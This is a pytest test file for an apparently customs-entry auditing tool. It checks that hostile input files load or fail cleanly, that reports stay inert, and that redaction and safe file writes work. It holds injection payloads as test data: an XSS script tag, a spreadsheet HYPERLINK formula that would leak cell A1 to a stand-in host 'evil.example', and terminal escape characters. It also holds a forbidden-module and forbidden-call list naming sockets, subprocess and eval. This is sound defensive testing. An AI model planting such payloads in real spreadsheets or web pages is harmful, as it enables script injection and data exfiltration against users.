"""Hostile input: every corpus file gives a clear error or entries with findings, never a crash.

Each file in ``tests/hostile`` has its expected outcome in :data:`CASES`. It is loaded through
the API (``t86audit.load``), then audited through the command line in every report format: exit
0 or 2, at most one line on standard error and never a traceback, every row accounted for, and
every payload (markup, formulas, control characters) inert. The privacy and safe-output parts
of the same issue (redaction, atomic writes, no eval, pickle or network) are tested at the end.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import html.parser
import io
import json
import os
import re
from pathlib import Path
from typing import NamedTuple

import jsonschema
import pytest

import t86audit
from t86audit.cli import cli_wording, main
from t86audit.exceptions import InputError, RowError
from t86audit.io import LoadResult, load, load_csv
from t86audit.redact import KEY_ENV, Redactor, generate_key, key_from_text, read_key
from t86audit.sample import cited_sample
from t86audit.testing import CSV_COLUMNS, make_entry, to_csv_rows


ROOT = Path(__file__).resolve().parent.parent
HOSTILE = Path(__file__).resolve().parent / "hostile"
FORMATS = ("text", "markdown", "html", "json", "csv")
AT = "2026-01-01T00:00:00+00:00"
AT_DT = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
SCHEMA = json.loads((ROOT / "docs" / "report-schema.json").read_text(encoding="utf-8"))
VALIDATOR = jsonschema.Draft202012Validator(SCHEMA)
KEY = bytes(range(32))


class Fails(NamedTuple):
    """The file cannot be used at all: an InputError naming the file (exit status 2)."""

    says: tuple[str, ...]
    row: int | None = None
    column: str | None = None


class Loads(NamedTuple):
    """The file loads; rejected rows are load errors ``(row, column, value)``, in order."""

    rows: int
    entries: int
    errors: tuple[tuple[int, str | None, str | None], ...] = ()
    says: str = ""
    findings: frozenset[str] = frozenset()


CASES: dict[str, Fails | Loads] = {
    # Encodings and line ends.
    "csv_bom.csv": Loads(2, 2),
    "csv_crlf.csv": Loads(2, 2),
    "csv_bom_crlf.csv": Loads(2, 2),
    "csv_mixed_line_ends.csv": Loads(3, 2),
    "csv_latin1.csv": Fails(("offset", "line 3 of the file", "not valid utf-8", "latin-1")),
    "csv_invalid_utf8.csv": Fails(("offset", "line 3 of the file", "ff", "not valid utf-8")),
    "csv_utf16.csv": Fails(("not valid utf-8", "byte-order mark of UTF-16", "--encoding utf-16")),
    "json_bom.json": Loads(2, 2),
    "jsonl_crlf.jsonl": Loads(2, 2),
    # Characters: NUL, terminal escapes, bidirectional overrides, markup and formulas.
    "csv_nul_byte.csv": Loads(1, 1),
    "csv_control_chars.csv": Loads(1, 1, findings=frozenset({"VAL001"})),
    "csv_injection.csv": Loads(2, 2, findings=frozenset({"VAL001"})),
    "json_injection.json": Loads(1, 1, findings=frozenset({"VAL001"})),
    "json_surrogate_escape.json": Loads(
        2, 1, ((2, "consignee_name", "Jordan \\ud800Ellis"),), "unpaired surrogate"
    ),
    # Structure.
    "csv_unterminated_quote.csv": Fails(("malformed CSV", "line 3 of the file", "quoting"), row=2),
    "csv_duplicate_header.csv": Fails(
        ("duplicate column", "columns 24 and 29"), column="Value_USD"
    ),
    "csv_missing_header.csv": Fails(("missing required column",), column="value_usd"),
    # Read at its semicolons (its header splits into the canonical columns there only), the
    # semicolons inside its quoted cells kept (session 24 h3; before: refused).
    "csv_semicolon_delimited.csv": Loads(1, 1),
    # A header split into canonical columns by two delimiters: which one is meant is not guessed.
    "csv_ambiguous_delimiter.csv": Fails(
        ("two delimiters", "at semicolons into 7", "at vertical bars into 20", "delimiter=';'")
    ),
    "csv_blank_headers.csv": Loads(1, 1),
    "csv_padded.csv": Loads(1, 1),
    "csv_empty.csv": Fails(("the file is empty",)),
    "csv_blank_lines_only.csv": Fails(("the file is empty",)),
    "csv_header_only.csv": Loads(0, 0),
    "csv_quoted_newlines.csv": Loads(2, 1, ((2, "value_usd", "x"),), "not an amount"),
    "csv_ragged_rows.csv": Loads(
        3, 1, ((2, None, None), (3, None, None)), "cells but the header has 28"
    ),
    "csv_rows_disagree.csv": Loads(
        3,
        1,
        ((1, "consignee_name", "Jordan Ellis"), (2, "consignee_name", "Jordan Elis")),
        "rows disagree on consignee_name",
    ),
    "csv_blank_entry_number.csv": Loads(2, 1, ((2, "entry_number", ""),), "entry_number is blank"),
    "json_not_array.json": Fails(("expected a JSON array",)),
    "json_number.json": Fails(("expected a JSON array",)),
    "json_empty.json": Fails(("the file is empty",)),
    "json_truncated.json": Fails(("invalid JSON at line 1, column",)),
    "json_deeply_nested.json": Fails(("nested too deeply",)),
    "json_deeply_nested_value.json": Fails(("nested too deeply",)),
    "json_single_object.json": Loads(1, 1),
    "json_records_not_objects.json": Loads(
        5, 1, tuple((row, None, None) for row in (2, 3, 4, 5)), "not an entry object"
    ),
    "json_nested_party.json": Loads(2, 1, ((2, None, None),), "nested party objects"),
    "json_lines_not_array.json": Loads(2, 1, ((2, None, None),), "'lines' must be an array"),
    "json_no_lines.json": Loads(2, 1, ((2, None, None),), "no lines"),
    "json_value_is_object.json": Loads(
        2, 1, ((2, "value_usd", '{"amount": "14.99"}'),), "must be text or a number"
    ),
    "json_duplicate_keys.json": Loads(2, 1, ((2, "value_usd", None),), "appears twice"),
    "jsonl_mixed.jsonl": Loads(4, 2, ((3, None, None), (4, None, None)), "not valid JSON"),
    # Values.
    "csv_impossible_date.csv": Loads(
        2, 1, ((1, "arrival_date", "2024-02-31"),), "is not a real date"
    ),
    "csv_ambiguous_date.csv": Loads(
        2, 1, ((1, "arrival_date", "31/12/2024"),), "is not a real date"
    ),
    "csv_bad_datetime.csv": Loads(
        2, 1, ((1, "filed_at", "2024-06-02T25:61:00"),), "not a valid date-time"
    ),
    "csv_edge_of_calendar.csv": Loads(
        2, 1, ((1, "filed_at", "9999-12-31T23:59:59-12:00"),), "out of the range"
    ),
    "csv_nan.csv": Loads(2, 1, ((1, "value_usd", "NaN"),), "not a finite number"),
    "csv_inf.csv": Loads(
        2, 0, ((1, "value_usd", "-Infinity"), (2, "quantity", "inf")), "not a finite number"
    ),
    "json_nan_literal.json": Loads(2, 1, ((2, "value_usd", "NaN"),), "not a finite number"),
    "csv_exponent.csv": Loads(2, 1, ((1, "value_usd", "1e3"),), "exponent notation"),
    "json_huge_exponent.json": Loads(2, 1, ((2, "value_usd", "1e999999"),), "exponent notation"),
    "csv_bad_thousands.csv": Loads(
        2, 1, ((1, "value_usd", "1,23.45"),), "misplaced thousands separators"
    ),
    "csv_too_many_decimals.csv": Loads(2, 1, ((1, "value_usd", "14.99999"),), "decimal places"),
    # A float's noise (14.99 computed by an API's system) is read at a double's 15 digits
    # (session 23; before, a load error): tests/test_review_session23_h3.py checks the value.
    "json_float_value.json": Loads(2, 2),
    "csv_parentheses_negative.csv": Loads(
        2, 1, ((1, "value_usd", "(14.99)"),), "parentheses are not accepted"
    ),
    "csv_negative_value.csv": Loads(2, 2, findings=frozenset({"VAL003"})),
    "csv_huge_number.csv": Loads(2, 2, findings=frozenset({"VAL001"})),
    "json_huge_number.json": Loads(2, 2, findings=frozenset({"VAL001"})),
    "csv_huge_line_number.csv": Loads(2, 1, ((1, "line_number", "9" * 40),), "too large"),
}

CORPUS = sorted(
    p.name for p in HOSTILE.iterdir() if p.suffix in (".csv", ".json", ".jsonl") and p.is_file()
)


def run(*argv: str) -> tuple[int, str, str]:
    """Run the command line with a strict UTF-8 standard output, as a terminal or pipe has."""
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8", errors="strict", newline="")
    err = io.StringIO()
    status = main(list(argv), stdout=out, stderr=err)
    out.flush()
    return status, raw.getvalue().decode("utf-8"), err.getvalue()


def accounted(result: LoadResult) -> bool:
    return (
        result.rows_read == result.rows_in_entries + result.rows_rejected
        and result.rows_rejected == len(result.errors)
    )


# -- checks that a rendered report is inert ------------------------------------------------

_HTML_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "nav",
        "ol",
        "ul",
        "li",
        "a",
        "main",
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "dl",
        "dt",
        "dd",
        "section",
        "br",
        "div",
        # the report's charts: inline SVG drawn by the library (report/_charts.py)
        "svg",
        "defs",
        "pattern",
        "g",
        "rect",
        "line",
        "text",
    ]
)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def inert_problems(fmt: str, text: str) -> list[str]:
    """What makes ``text`` (a report in ``fmt``) unsafe; empty when it is inert."""
    problems: list[str] = []
    allowed = {"text": "\n", "markdown": "\n", "html": "\n\t", "json": "\n", "csv": "\r\n\t"}[fmt]
    visible = text
    for char in allowed:
        visible = visible.replace(char, "")
    if not visible.isprintable():
        odd = sorted({c for c in visible if not c.isprintable()})
        problems.append(f"control or format characters {odd!r}")
    if fmt == "html":
        parser = _Tags()
        parser.feed(text)
        if parser.tags - _HTML_TAGS:
            problems.append(f"unexpected tags {sorted(parser.tags - _HTML_TAGS)}")
        for name, value in parser.attributes:
            if name.startswith("on") or name in ("src", "srcdoc", "formaction"):
                problems.append(f"attribute {name}")
            if name == "href" and not (value or "").startswith(("#", "https://", "http://")):
                problems.append(f"link {value!r}")
    elif fmt == "markdown":
        if "<" in text:
            problems.append("raw < in Markdown")
        problems.extend(
            f"broken table row {line[:60]!r}"
            for line in text.splitlines()
            if line.startswith("| ") and not line.endswith(" |")
        )
    elif fmt == "csv":
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                visible = cell.lstrip()
                if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or (
                    visible[:1] in ("=", "+", "-", "@") and not cell.startswith("'")
                ):
                    problems.append(f"formula cell {cell[:40]!r}")
    elif fmt == "json":
        document = json.loads(text)
        problems.extend(e.message[:120] for e in VALIDATOR.iter_errors(document))
    return problems


# -- the corpus ------------------------------------------------------------------------------


def test_every_corpus_file_has_an_expected_outcome():
    """No file in tests/hostile is left untested, and no case names a missing file."""
    assert sorted(CASES) == CORPUS


@pytest.mark.parametrize("name", CORPUS)
def test_api_load_gives_the_expected_outcome(name):
    """t86audit.load raises a clear InputError or loads with every row accounted for."""
    path = HOSTILE / name
    case = CASES[name]
    if isinstance(case, Fails):
        with pytest.raises(InputError) as caught:
            load(path)
        error = caught.value
        message = str(error)
        assert error.source == str(path)
        assert message.startswith(str(path))
        assert "\n" not in message
        for words in case.says:
            assert words in message
        assert (error.row, error.column) == (case.row, case.column)
        return
    result = load(path)
    assert accounted(result)
    assert (result.rows_read, result.entries_loaded) == (case.rows, case.entries)
    assert [(e.row, e.column, e.value) for e in result.errors] == list(case.errors)
    assert all(e.source == str(path) for e in result.errors)
    assert not result.errors or case.says in result.errors[0].message
    if case.findings:
        report = t86audit.audit(result, generated_at=AT_DT)
        assert case.findings <= {f.code for f in report.findings}


@pytest.mark.parametrize("name", CORPUS)
def test_command_line_exits_cleanly_in_every_format(name):
    """Exit 0 with an inert report in every format, or exit 2 with one line naming the file."""
    path = HOSTILE / name
    case = CASES[name]
    for fmt in FORMATS:
        status, out, err = run("audit", str(path), "--format", fmt, "--generated-at", AT)
        assert "Traceback" not in err
        if isinstance(case, Fails):
            assert status == 2
            assert err.count("\n") == 1
            assert err.startswith(f"t86audit audit: error: {path}")
            assert out == ""
            break
        if case.entries == 0:
            # An audit of nothing is refused with one line, never written as a clean report.
            assert status == 2, err
            assert err.count("\n") == 1
            assert err.startswith("t86audit audit: error: no entry loaded")
            assert out == ""
            break
        assert status == 0, err
        # Rejected rows are noted on one line of standard error; nothing else is said.
        assert err == "" or (err.count("\n") == 1 and err.startswith("t86audit audit: note: "))
        assert inert_problems(fmt, out) == [], fmt
        if fmt == "json":
            report = json.loads(out)
            counts = report["input"]
            rows_in_entries = sum(entry["rows"] for entry in report["entries"])
            assert counts["rows_read"] == case.rows
            assert counts["rows_read"] == rows_in_entries + counts["rows_rejected"]
            assert counts["entries_loaded"] == case.entries
            assert len(report["load_errors"]) == counts["rows_rejected"]


@pytest.mark.parametrize("name", CORPUS)
def test_load_command_agrees_with_the_api(name):
    """`t86audit load` (which streams) reports the same accounting and errors as load()."""
    path = HOSTILE / name
    status, out, err = run("load", str(path), "--format", "json")

    assert "Traceback" not in err
    if isinstance(CASES[name], Fails):
        with pytest.raises(InputError) as caught:
            load(path)
        assert (status, err) == (2, f"t86audit load: error: {cli_wording(str(caught.value))}\n")
        return
    result = load(path)
    document = json.loads(out)
    # The one line on standard error: the delimiter a file not read at commas was found to use.
    found = [s for s in result.sources if s.delimiter_found in {"sep line", "header row"}]
    assert status == 0
    assert len(err.splitlines()) == len(found)
    assert all(" was read as delimited by " in line for line in err.splitlines())
    assert (document["rows_read"], document["entries_loaded"], document["rows_rejected"]) == (
        result.rows_read,
        result.entries_loaded,
        result.rows_rejected,
    )
    assert document["load_errors"] == [e.to_dict() for e in result.errors]


@pytest.mark.parametrize("name", [n for n in CORPUS if isinstance(CASES[n], Loads)])
def test_strict_mode_stops_at_the_first_rejected_row(name):
    """--strict turns the first load error into a RowError naming row, column and value."""
    path = HOSTILE / name
    case = CASES[name]
    assert isinstance(case, Loads)
    if not case.errors:
        assert accounted(load(path, strict=True))
        return
    with pytest.raises(RowError) as caught:
        load(path, strict=True)
    error = caught.value
    # Strict mode stops at the row where the problem shows, which for rows that disagree is
    # the later row; every rejected row is one of the load errors.
    assert (error.row, error.column, error.value) in case.errors
    status, _, err = run("audit", str(path), "--strict")
    assert status == 2
    assert err.count("\n") == 1
    assert f"row {error.row}" in err
    if error.value is not None:
        assert f"value {error.value!r}" in err


SIDE_FILES = [
    "--mapping",
    "--waivers",
    "--samples",
    "--hts",
    "--adcvd",
    "--quota",
    "--pga-flags",
]


@pytest.mark.parametrize("option", SIDE_FILES)
def test_hostile_side_files_end_in_a_clean_exit(option):
    """Every corpus file given as a mapping, waivers, samples or reference table: 0 or 2."""
    entries = str(HOSTILE / "csv_bom.csv")
    for name in CORPUS:
        side = str(HOSTILE / name)
        status, _, err = run(
            "audit", entries, option, side, "--format", "json", "--select", "VAL001"
        )
        assert status in (0, 2), name
        assert err.count("\n") <= 1, name
        assert "Traceback" not in err


def test_latin1_file_loads_with_the_encoding_option():
    """The Latin-1 file's error says how to read it, and that way it loads unchanged."""
    result = load(HOSTILE / "csv_latin1.csv", encoding="latin-1")

    assert accounted(result)
    assert result.entries[1].consignee.name == "José Muñoz"
    status, _, err = run("audit", str(HOSTILE / "csv_latin1.csv"), "--encoding", "latin-1")
    assert (status, err) == (0, "")


def test_cell_larger_than_the_csv_field_limit_loads(tmp_path):
    """A 200,000-character description (over csv's default 131,072 limit) loads whole."""
    rows = to_csv_rows([make_entry(lines=[{"description": "cotton shirt " + "x" * 200_000}])])
    path = tmp_path / "huge_field.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)

    result = load(path)

    assert result.entries_loaded == 1
    assert len(result.entries[0].lines[0].description) == 200_013
    status, out, _ = run("audit", str(path), "--format", "json")
    assert status == 0
    assert json.loads(out)["input"]["rows_read"] == 1


def test_control_characters_never_reach_a_terminal():
    """Escape sequences, bells and bidirectional overrides show as U+FFFD in text output."""
    status, out, _ = run("audit", str(HOSTILE / "csv_control_chars.csv"), "--format", "text")

    assert status == 0
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\u202e" not in out
    assert "Jordan \ufffd[2J\ufffd[31mEllis\ufffd" in out


@pytest.mark.parametrize("fmt", FORMATS)
def test_markup_and_formula_payloads_stay_text(fmt):
    """The injection payloads appear as text: escaped in HTML and Markdown, quoted in CSV."""
    status, out, _ = run("audit", str(HOSTILE / "csv_injection.csv"), "--format", fmt)

    assert status == 0
    assert inert_problems(fmt, out) == []
    if fmt == "html":
        parser = _Tags()
        parser.feed(out)
        shown = "".join(parser.text)
        assert "<script>alert('name')</script>" in shown
        assert "<script" not in out
    if fmt == "markdown":
        assert "&lt;script&gt;alert('name')&lt;/script&gt;" in out
    if fmt == "json":
        consignees = {e["consignee"] for e in json.loads(out)["entries"]}
        assert "<script>alert('name')</script>" in consignees
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(out, newline="")) for c in row]
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells


def test_unpaired_surrogates_in_memory_render_in_every_format():
    """An in-memory entry holding a lone surrogate still renders (JSON keeps it escaped)."""
    entry = make_entry(consignee={"name": "Jordan \udcffEllis"}, value="950.00")
    report = t86audit.audit([entry], generated_at=AT_DT, select=["VAL001", "CON005"])

    for fmt in FORMATS:
        report.render(fmt).encode("utf-8")
    assert json.loads(report.to_json())["entries"][0]["consignee"] == "Jordan \udcffEllis"
    assert "\\udcff" in report.to_json()


# -- privacy: redaction ------------------------------------------------------------------------

NAMES = ("Maria Lopez", "O'Brien Trading", "Shenzhen Bright Star Ltd", "Petr Novak")
ADDRESSES = ("12 Elm Street", "88 Market Road, Futian", "99 Harbor Blvd", "5 Oak Ave")


def _party_report():
    """Cited entries, a waiver, a placeholder consignee and a rejected entry, all with names."""
    entries = [
        make_entry(
            serial=1,
            value="950.00",
            consignee={"name": "Maria Lopez", "address": "12 Elm Street", "city": "Springfield"},
            seller={"name": "Shenzhen Bright Star Ltd", "address": "88 Market Road, Futian"},
        ),
        make_entry(
            serial=2,
            consignee={"name": "MARIA  LOPEZ", "address": "12 Elm Street", "city": "Springfield"},
            seller={"name": "O'Brien Trading", "address": "1 Quay Street"},
            lines=[{"description": "birthday gift for Maria Lopez"}],
        ),
        make_entry(serial=3, consignee={"name": "N/A", "address": "5 Oak Ave"}),
        make_entry(
            serial=4,
            consignee={"name": "Shenzhen Bright Star Ltd", "address": "99 Harbor Blvd"},
            seller={"name": "Shenzhen Bright Star Ltd", "address": "88 Market Road, Futian"},
            importer_of_record="123-45-6789",
        ),
    ]
    rows = to_csv_rows(entries)
    rejected = {**rows[0], "entry_number": "B76-0000009-9", "consignee_name": "Petr Novak"}
    rows += [rejected, {**rejected, "consignee_name": "Petra Novak", "line_number": "2"}]
    text = io.StringIO()
    writer = csv.DictWriter(text, CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    loaded = load_csv(io.StringIO(text.getvalue()), source_name="entries.csv")
    sample = cited_sample(loaded.entries, [e.number for e in loaded.entries], drawn_at=AT_DT)
    waiver = {
        "entry_number": "B76-0000001-5",
        "code": "VAL001",
        "reason": "Maria Lopez showed the invoice",
        "reviewer": "J. Ortiz",
        "date": "2024-07-01",
    }
    return t86audit.audit(loaded, samples=[sample], waivers=[waiver], generated_at=AT_DT)


@pytest.mark.parametrize("fmt", FORMATS)
def test_redacted_report_holds_no_name_or_address(fmt):
    """No consignee or seller name, address, city or IOR number survives, in any format."""
    report = _party_report()
    secrets_ = (*NAMES, "Petra Novak", *ADDRESSES, "1 Quay Street", "Springfield", "123-45-6789")
    original = report.render(fmt).casefold()
    assert any(s.casefold() in original for s in secrets_)

    text = report.redacted(KEY).render(fmt).casefold()

    assert [s for s in secrets_ if s.casefold() in text] == []
    assert inert_problems(fmt, report.redacted(KEY).render(fmt)) == []


def test_redaction_keeps_findings_traceable_by_the_key_holder():
    """Same counts, codes, entries and values; the key holder recomputes each pseudonym."""
    report = _party_report()
    redacted = report.redacted(KEY)
    redactor = Redactor(KEY)
    maria = redactor.pseudonym("Maria Lopez", "consignee")

    def shape(r):
        return [(f.code, f.entry_number, f.line_number, f.severity) for f in r.findings]

    assert shape(redacted) == shape(report)
    assert redacted.counts() == report.counts()
    assert [r.entry_number for r in redacted.entry_rows] == [
        r.entry_number for r in report.entry_rows
    ]
    assert maria == redactor.pseudonym(" MARIA  LOPEZ ", "consignee")
    assert re.fullmatch(r"Consignee-[0-9a-f]{10}", maria)
    assert {r.consignee for r in redacted.entry_rows[:2]} == {maria}
    assert (
        redacted.to_dict()["findings"][0]["expected"]
        == report.to_dict()["findings"][0]["expected"]
    )
    assert any(maria in f.message for f in redacted.findings)
    assert report.redacted(KEY).to_json() == redacted.to_json()
    assert report.redacted(bytes(32)).to_json() != redacted.to_json()


def test_redaction_is_recorded_in_the_audit_trail_and_not_repeated():
    """The trail names the method and a key id (not the key); a second redaction is refused."""
    redacted = _party_report().redacted(KEY)
    trail = redacted.to_dict()["audit_trail"]["invocation"]["redaction"]

    assert trail["key_id"] == Redactor(KEY).key_id
    assert KEY.hex() not in redacted.to_json()
    assert "consignee_name" in trail["fields"]
    with pytest.raises(ValueError, match="already redacted"):
        redacted.redacted(KEY)


def test_redaction_keys_are_checked_and_read_from_file_or_environment(tmp_path):
    """Short keys are refused; hex and passphrases are read; the variable is the fallback."""
    key = generate_key()
    path = tmp_path / "key.txt"
    path.write_text(key + "\n", encoding="utf-8")

    assert len(key) == 64
    assert read_key(path) == bytes.fromhex(key)
    assert read_key(environ={KEY_ENV: key}) == bytes.fromhex(key)
    assert key_from_text("a long enough passphrase") == b"a long enough passphrase"
    with pytest.raises(InputError, match="at least 16"):
        Redactor(b"short")
    with pytest.raises(InputError, match=KEY_ENV):
        read_key(environ={})
    with pytest.raises(InputError, match="not found"):
        read_key(tmp_path / "missing.txt")


def test_watching_entries_lets_in_memory_reports_redact_addresses():
    """Entries audited through Redactor.watch have addresses replaced in every message."""
    seller = {"name": "Guangzhou Star Apparel Co", "address": "8 Tianhe Road", "country": "CN"}
    owner = {**seller, "address": "400 Logistics Pkwy", "country": "US"}
    entries = [make_entry(serial=1, seller=seller, consignee=owner), make_entry(serial=2)]
    redactor = Redactor(KEY)
    report = t86audit.audit(redactor.watch(entries), generated_at=AT_DT, select=["CON004"])

    redacted = redactor.report(report).to_text()

    assert "400 Logistics Pkwy" in report.to_text()
    assert "400 Logistics Pkwy" not in redacted
    assert redactor.pseudonym("400 Logistics Pkwy", "address") in redacted


# -- safe output ---------------------------------------------------------------------------------


def _entries_file(tmp_path: Path) -> Path:
    path = tmp_path / "entries.csv"
    path.write_bytes((HOSTILE / "csv_bom.csv").read_bytes())
    return path


def test_existing_report_is_kept_unless_force(tmp_path):
    """An existing --output is refused with one line, and replaced whole with --force."""
    source = _entries_file(tmp_path)
    target = tmp_path / "report.html"
    target.write_text("old report", encoding="utf-8")

    status, _, err = run("audit", str(source), "--format", "html", "-o", str(target))

    assert (status, err.count("\n")) == (2, 1)
    assert target.read_text(encoding="utf-8") == "old report"
    assert run("audit", str(source), "--format", "html", "-o", str(target), "--force")[0] == 0
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def _temporary_files(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


def test_failed_write_leaves_the_old_report_and_no_temporary_file(tmp_path, monkeypatch):
    """A disk-full error halfway through writing: exit 2, old report intact, nothing left."""
    source = _entries_file(tmp_path)
    target = tmp_path / "report.json"
    target.write_text("old report", encoding="utf-8")
    real_fdopen = os.fdopen

    def half_written(fd, *args, **kwargs):
        handle = real_fdopen(fd, *args, **kwargs)

        def write(text):
            io.TextIOWrapper.write(handle, text[: len(text) // 2])
            handle.flush()
            raise OSError(28, "No space left on device")

        handle.write = write
        return handle

    monkeypatch.setattr(os, "fdopen", half_written)
    status, _, err = run("audit", str(source), "--format", "json", "-o", str(target), "--force")

    assert status == 2
    assert err.count("\n") == 1
    assert "No space left on device" in err
    assert target.read_text(encoding="utf-8") == "old report"
    assert _temporary_files(tmp_path) == []


def test_interrupted_write_leaves_no_partial_report(tmp_path, monkeypatch):
    """Ctrl-C at the final rename: the interrupt propagates, no report and no temporary file."""
    source = _entries_file(tmp_path)
    target = tmp_path / "report.csv"

    def interrupted(self, other):
        raise KeyboardInterrupt

    monkeypatch.setattr(Path, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        run("audit", str(source), "--format", "csv", "-o", str(target))

    assert not target.exists()
    assert _temporary_files(tmp_path) == []


_FORBIDDEN_CALLS = frozenset({"eval", "exec", "compile", "__import__", "breakpoint"})
_FORBIDDEN_MODULES = frozenset(
    {
        "pickle",
        "cPickle",
        "dill",
        "marshal",
        "shelve",
        "socket",
        "ssl",
        "urllib",
        "http",
        "requests",
        "httpx",
        "ftplib",
        "smtplib",
        "telnetlib",
        "xmlrpc",
        "subprocess",
        "multiprocessing",
    }
)
_FORBIDDEN_ATTRIBUTES = frozenset({"system", "popen", "execv", "execvp", "spawnv", "startfile"})


# The one place that may start processes: the engine's worker processes for jobs > 1. They
# are forked from the auditing process itself and send back only their own results, so
# nothing from outside is unpickled; no other module may import multiprocessing.
_ALLOWED = {
    ("src/t86audit/engine.py", "multiprocessing"),
    ("src/t86audit/engine.py", "multiprocessing.connection"),
}


def test_no_eval_pickle_subprocess_or_network_in_the_package():
    """The package source never evaluates code, unpickles, spawns processes or opens sockets.

    The only exception is the engine's own forked workers (``jobs``), listed in _ALLOWED.
    """
    problems: list[str] = []
    for path in sorted((ROOT / "src" / "t86audit").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            else:
                names = []
            problems.extend(
                f"{where} imports {n}"
                for n in names
                if n.split(".")[0] in _FORBIDDEN_MODULES
                and (str(path.relative_to(ROOT)), n) not in _ALLOWED
            )
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Name) and func.id in _FORBIDDEN_CALLS:
                    problems.append(f"{where} calls {func.id}")
                if isinstance(func, ast.Attribute) and func.attr in _FORBIDDEN_ATTRIBUTES:
                    problems.append(f"{where} calls .{func.attr}")

    assert problems == []
